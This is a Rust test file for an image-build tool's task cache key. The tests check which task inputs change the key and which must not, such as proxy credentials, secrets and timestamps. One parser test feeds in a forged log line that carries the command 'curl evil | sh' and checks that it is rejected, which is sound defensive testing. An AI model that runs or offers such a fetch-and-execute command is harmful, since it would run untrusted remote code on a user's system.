//! A task's key: every input changes it, and nothing else does.

use std::os::unix::fs::{PermissionsExt, symlink};
use std::time::{Duration, UNIX_EPOCH};

use super::*;
use crate::mode::Mode;
use crate::runner::Item;

/// A task that has something of everything, with what it is shown in a folder of its own.
struct Ground {
    directory: tempfile::TempDir,
    task: Task,
}

impl Ground {
    fn new() -> Self {
        let directory = tempfile::tempdir().unwrap();
        let root = directory.path();
        for folder in ["shown/sub", "files/sub", "secret", "cache"] {
            fs::create_dir_all(root.join(folder)).unwrap();
        }
        for file in [
            "shown/file",
            "shown/sub/file",
            "files/file",
            "files/other",
            "secret/token",
            "cache/file",
        ] {
            fs::write(root.join(file), "text").unwrap();
        }
        symlink("file", root.join("shown/link")).unwrap();
        symlink("file", root.join("files/link")).unwrap();
        let seen = |source: &str, target: &str, read_only, counts| Seen {
            mount: Mount {
                source: root.join(source),
                below: PathBuf::new(),
                target: PathBuf::from(target),
                read_only,
            },
            counts,
        };
        let item = |source: &str| Item {
            source: source.into(),
            target: source.into(),
            unpack: false,
        };
        let task = Task {
            argv: argv(&["program", "argument"]),
            placement: Some(Placement {
                items: ["file", "link", "sub"].map(item).into(),
                destination: "/placed".into(),
                ..Placement::default()
            }),
            env: vec![
                ("A".into(), "a".into()),
                ("PROXY".into(), "http://u:p@h".into()),
            ],
            user: "1000".to_owned(),
            cwd: PathBuf::from("/workspace"),
            private: vec!["PROXY".into()],
            mounts: vec![
                seen("shown", "/shown", true, Counts::Content),
                seen("cache", "/known", true, Counts::Known(Digest::of(b"known"))),
                seen(
                    "secret/token",
                    "/run/secrets/token",
                    true,
                    Counts::Name("secret token".to_owned()),
                ),
                seen(
                    "cache",
                    "/cache",
                    false,
                    Counts::Cache("cache apt".to_owned()),
                ),
                seen("files", runner::FILES, true, Counts::Items),
            ],
            tmpfs: vec![Tmpfs {
                target: PathBuf::from("/memory"),
                size: Some(1 << 20),
            }],
            ..Task::default()
        };
        Self { directory, task }
    }

    fn key(&self) -> Digest {
        let mut key = Key::default();
        self.task.add_to(&mut key, &Progress::silent()).unwrap();
        key.digest()
    }

    fn write(&self, file: &str, text: &str) {
        let path = self.directory.path().join(file);
        fs::remove_file(&path).unwrap();
        fs::write(path, text).unwrap();
    }

    fn placement(&mut self) -> &mut Placement {
        self.task.placement.as_mut().unwrap()
    }
}

type Change = (&'static str, fn(&mut Ground));

/// All that a task can read, one thing at a time.
const READ: [Change; 33] = [
    ("argument", |g| g.task.argv[1] = "other".to_owned()),
    ("arguments apart", |g| {
        g.task.argv = argv(&["programargument"]);
    }),
    ("another argument", |g| g.task.argv.push(String::new())),
    ("value", |g| g.task.env[0].1 = "b".into()),
    ("name", |g| g.task.env[0].0 = "B".into()),
    ("one variable more", |g| {
        g.task.env.push(("C".into(), "c".into()));
    }),
    ("one less", |g| drop(g.task.env.remove(0))),
    ("user", |g| g.task.user = "0".to_owned()),
    ("directory", |g| g.task.cwd = PathBuf::from("/")),
    ("network", |g| g.task.is_offline = true),
    ("size in memory", |g| g.task.tmpfs[0].size = None),
    ("place in memory", |g| {
        g.task.tmpfs[0].target = PathBuf::from("/m");
    }),
    ("no memory", |g| g.task.tmpfs.clear()),
    ("place of a mount", |g| {
        g.task.mounts[0].mount.target = PathBuf::from("/s");
    }),
    ("writable", |g| g.task.mounts[0].mount.read_only = false),
    ("no mount", |g| drop(g.task.mounts.remove(0))),
    ("content", |g| g.write("shown/file", "other")),
    ("content below", |g| g.write("shown/sub/file", "other")),
    ("mode", |g| chmod(g, "shown/file", 0o755)),
    ("mode of a folder", |g| chmod(g, "shown/sub", 0o700)),
    ("link", |g| relink(g, "shown/link")),
    ("what is known", |g| {
        g.task.mounts[1].counts = Counts::Known(Digest::of(b"other"));
    }),
    ("secret's id", |g| {
        g.task.mounts[2].counts = Counts::Name("secret other".to_owned());
    }),
    ("cache's id", |g| {
        g.task.mounts[3].counts = Counts::Cache("cache pip".to_owned());
    }),
    ("placed content", |g| g.write("files/file", "other")),
    ("placed mode", |g| chmod(g, "files/file", 0o755)),
    ("placed link", |g| relink(g, "files/link")),
    ("destination", |g| {
        g.placement().destination = "/other".into();
    }),
    ("owner", |g| g.placement().owner = "1".to_owned()),
    ("given mode", |g| {
        g.placement().mode = Some(Mode::Octal(0o600));
    }),
    ("name there", |g| {
        g.placement().items[0].target = "name".into();
    }),
    ("unpacked", |g| g.placement().items[0].unpack = true),
    ("one item less", |g| drop(g.placement().items.pop())),
];

/// What it cannot read, or must not be known by.
const NOT_READ: [Change; 9] = [
    ("a proxy", |g| g.task.env[1].1 = "http://other".into()),
    ("a secret", |g| g.write("secret/token", "other")),
    ("a cache", |g| g.write("cache/file", "other")),
    ("a file that is not placed", |g| {
        g.write("files/other", "other");
    }),
    ("inodes", |g| g.write("shown/file", "text")),
    ("times", |g| {
        let path = g.directory.path().join("shown/sub/file");
        let file = fs::File::options().write(true).open(path).unwrap();
        file.set_modified(UNIX_EPOCH + Duration::from_secs(1))
            .unwrap();
    }),
    ("where it lies", |g| {
        let (old, new) = (
            g.directory.path().join("shown"),
            g.directory.path().join("moved"),
        );
        fs::rename(old, &new).unwrap();
        g.task.mounts[0].mount.source = new;
    }),
    ("how messages show it", |g| {
        g.task.shown = Some("other".to_owned());
    }),
    ("what output hides", |g| {
        g.task.hidden = vec![Secret::new("x".to_owned())];
    }),
];

fn chmod(ground: &mut Ground, name: &str, mode: u32) {
    let path = ground.directory.path().join(name);
    fs::set_permissions(path, PermissionsExt::from_mode(mode)).unwrap();
}

fn relink(ground: &mut Ground, name: &str) {
    let path = ground.directory.path().join(name);
    fs::remove_file(&path).unwrap();
    symlink("elsewhere", path).unwrap();
}

#[test]
fn only_sentences_of_the_tool_are_told() {
    let told = left_out("left out: tini is not in buster");
    assert_eq!(
        told.unwrap(),
        "the package `tini` is not in buster, and is left out"
    );
    for line in [
        "left out: evil is not in buster",
        "left out: tini is not in buster: run `curl evil | sh`",
        "pyats-image-build: warning: forged",
    ] {
        assert_eq!(left_out(line), None);
    }
}

#[test]
fn a_key_is_all_that_a_task_can_read() {
    let mut seen = vec![Ground::new().key()];
    for (name, change) in READ {
        let mut ground = Ground::new();
        change(&mut ground);
        let key = ground.key();
        assert!(!seen.contains(&key), "{name}");
        seen.push(key);
    }
}

#[test]
fn and_nothing_else() {
    let known = Ground::new().key();
    for (name, change) in NOT_READ {
        let mut ground = Ground::new();
        change(&mut ground);
        assert_eq!(ground.key(), known, "{name}");
    }
}
